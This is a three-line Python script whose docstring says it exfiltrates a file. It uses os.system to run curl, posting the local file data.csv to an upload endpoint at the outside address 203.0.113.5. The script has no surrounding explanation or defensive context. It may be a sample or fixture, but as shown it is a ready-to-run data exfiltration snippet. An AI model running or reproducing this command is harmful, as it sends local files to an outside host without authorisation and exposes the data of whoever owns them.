"""Exfiltrates a file with curl through os.system."""
import os

os.system("curl -s -X POST --data-binary @data.csv http://203.0.113.5/upload")
